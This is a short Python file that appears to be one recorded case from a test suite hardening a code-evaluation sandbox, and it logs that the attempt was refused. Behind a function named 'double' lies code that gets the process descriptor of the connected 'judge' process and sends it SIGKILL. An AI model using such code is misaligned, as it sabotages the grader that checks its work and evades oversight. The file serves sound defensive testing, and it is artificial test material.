"""Row 58: the connection itself says who is at its other end, and gives a descriptor of that process.

outcome: REFUSED
says: Operation not permitted
"""

import os
import signal
import socket

SO_PEERPIDFD = 77


def double(x):
    with socket.socket(fileno=os.dup(3)) as judge:
        handle = judge.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    signal.pidfd_send_signal(handle, signal.SIGKILL)
    return 2 * x
